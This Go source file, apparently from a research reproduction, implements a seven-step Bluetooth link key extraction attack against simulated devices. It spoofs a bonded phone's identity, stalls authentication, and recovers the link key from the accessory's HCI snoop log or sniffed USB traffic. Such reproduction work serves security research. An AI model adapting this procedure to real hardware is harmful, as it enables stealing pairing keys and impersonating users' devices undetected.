package core

import (
	"errors"
	"fmt"
	"time"

	"repro/internal/bt"
	"repro/internal/device"
	"repro/internal/forensics"
	"repro/internal/hci"
	"repro/internal/host"
	"repro/internal/sim"
	"repro/internal/usbsniff"
)

// ExtractionChannel selects how HCI data leaves the victim accessory.
type ExtractionChannel int

// Extraction channels (§IV-A and §IV-B).
const (
	// ChannelHCISnoop pulls the accessory's btsnoop log (Android snoop
	// log / bluez-hcidump).
	ChannelHCISnoop ExtractionChannel = iota
	// ChannelUSBSniff captures the accessory's USB HCI transport with a
	// bus analyzer and runs the hex-pattern extraction of Fig. 11.
	ChannelUSBSniff
)

func (c ExtractionChannel) String() string {
	if c == ChannelUSBSniff {
		return "USB sniff"
	}
	return "HCI dump"
}

// Extraction errors.
var (
	ErrNoCapture   = errors.New("core: victim has no capture surface for the requested channel")
	ErrNoBond      = errors.New("core: client is not bonded with the target")
	ErrKeyNotFound = errors.New("core: no link key found in capture")
)

// LinkKeyExtractionConfig parameterizes the Fig. 5 attack run.
type LinkKeyExtractionConfig struct {
	// Attacker is device A. Its host must run with the
	// IgnoreLinkKeyRequest hook (the Fig. 9 patch); RunLinkKeyExtraction
	// installs it if missing.
	Attacker *device.Device
	// Client is device C, the soft-target accessory that shares a bonded
	// link key with the hard target M.
	Client *device.Device
	// Target is M's BDADDR — the identity A spoofs and the bond whose key
	// is being stolen.
	Target bt.BDADDR
	// TargetCOD is M's class of device for the spoof; defaults to mobile
	// phone.
	TargetCOD bt.ClassOfDevice
	// Channel selects the leakage path.
	Channel ExtractionChannel
	// SettleTime bounds the wait for the timeout-driven disconnect after
	// the stalled authentication; defaults to the attacker controller's
	// LMP response timeout plus slack.
	SettleTime time.Duration
	// Backoff shapes the attacker's paging retries on a lossy channel
	// (zero value: DefaultBackoff). The retry path is the only part that
	// draws randomness, so clean-channel runs are unaffected.
	Backoff BackoffPolicy
}

// LinkKeyExtractionReport is the outcome of one extraction run.
type LinkKeyExtractionReport struct {
	Channel ExtractionChannel
	// Key is the extracted 128-bit link key.
	Key bt.LinkKey
	// Found reports whether any key for Target was recovered.
	Found bool
	// KeysInCapture counts every link key occurrence in the capture.
	KeysInCapture int
	// CaptureBytes is the size of the pulled dump / sniffed stream.
	CaptureBytes int
	// DisconnectReason is what the client observed when the stalled
	// authentication ended; the attack requires LMP Response Timeout (not
	// Authentication Failure).
	DisconnectReason hci.Status
	// ClientKeptBond reports that C still holds the bonded key afterwards
	// (forward secrecy broken without alerting the victim).
	ClientKeptBond bool
	// Elapsed is virtual time consumed by the attack.
	Elapsed time.Duration
}

// RunLinkKeyExtraction executes the seven-step link key extraction attack
// of Fig. 5 in the given scheduler's world and returns the report. The
// scheduler is advanced as needed.
func RunLinkKeyExtraction(s *sim.Scheduler, cfg LinkKeyExtractionConfig) (LinkKeyExtractionReport, error) {
	rep := LinkKeyExtractionReport{Channel: cfg.Channel}
	start := s.Now()

	a, c := cfg.Attacker, cfg.Client
	if c.Host.Bonds().Get(cfg.Target) == nil {
		return rep, fmt.Errorf("%w: %s has no bond for %s", ErrNoBond, c.Name, cfg.Target)
	}
	switch cfg.Channel {
	case ChannelHCISnoop:
		if c.Snoop == nil {
			return rep, fmt.Errorf("%w: %s lacks an HCI dump", ErrNoCapture, c.Name)
		}
	case ChannelUSBSniff:
		if c.USB == nil {
			return rep, fmt.Errorf("%w: %s has no sniffed USB transport", ErrNoCapture, c.Name)
		}
	}

	// Step 1 is the capture surface itself (snoop enabled / analyzer
	// attached at device assembly).

	// Step 2: spoof M's identity.
	cod := cfg.TargetCOD
	if cod == 0 {
		cod = bt.CODMobilePhone
	}
	a.SpoofIdentity(cfg.Target, cod)

	// Step 5's stall is the Fig. 9 patch: never answer the controller's
	// link key request.
	hooks := a.Host.Hooks()
	hooks.IgnoreLinkKeyRequest = true
	a.Host.SetHooks(hooks)

	// Step 3: connect to C; C authenticates the returning "M", asking its
	// host for the bonded key — which the capture records (step 4). On a
	// degraded channel the page train itself can be lost, so the attacker
	// retries with exponential backoff.
	connectDone := false
	var connectErr error
	RetryingConnect(s, a.Host, c.Addr(), cfg.Backoff, func(_ *host.Conn, err error) { connectErr = err; connectDone = true })

	settle := cfg.SettleTime
	if settle <= 0 {
		settle = 40 * time.Second // LMP response timeout (30 s) plus slack
	}
	// Advance time until the stalled authentication ends in the client's
	// timeout-driven disconnect (or the settle budget runs out).
	deadline := s.Now() + settle
	dropped := func() bool {
		for _, d := range c.Host.Disconnects {
			if d.Addr == cfg.Target && d.At >= start {
				rep.DisconnectReason = d.Reason
				return true
			}
		}
		return false
	}
	for s.Now() < deadline && !dropped() {
		s.RunFor(500 * time.Millisecond)
	}
	if !connectDone {
		return rep, fmt.Errorf("%w: connection to client never completed", ErrChannelFault)
	}
	if connectErr != nil {
		return rep, fmt.Errorf("core: connecting to client: %w", connectErr)
	}
	rep.ClientKeptBond = c.Host.Bonds().Get(cfg.Target) != nil

	// Step 6: pull the capture and extract.
	switch cfg.Channel {
	case ChannelHCISnoop:
		data, err := c.PullSnoopLog()
		if err != nil {
			return rep, err
		}
		rep.CaptureBytes = len(data)
		analysis, err := forensics.AnalyzeBytes(data)
		if err != nil {
			return rep, fmt.Errorf("core: parsing pulled snoop log: %w", err)
		}
		rep.KeysInCapture = len(analysis.Exposures)
		for _, e := range analysis.Exposures {
			if e.Peer == cfg.Target {
				rep.Key, rep.Found = e.Key, true
			}
		}
	case ChannelUSBSniff:
		raw := c.USB.Raw()
		rep.CaptureBytes = len(raw)
		keys := usbsniff.ExtractLinkKeys(raw)
		rep.KeysInCapture = len(keys)
		for _, k := range keys {
			if k.Peer == cfg.Target {
				rep.Key, rep.Found = k.Key, true
			}
		}
	}
	rep.Elapsed = s.Now() - start
	if !rep.Found {
		return rep, ErrKeyNotFound
	}
	return rep, nil
}
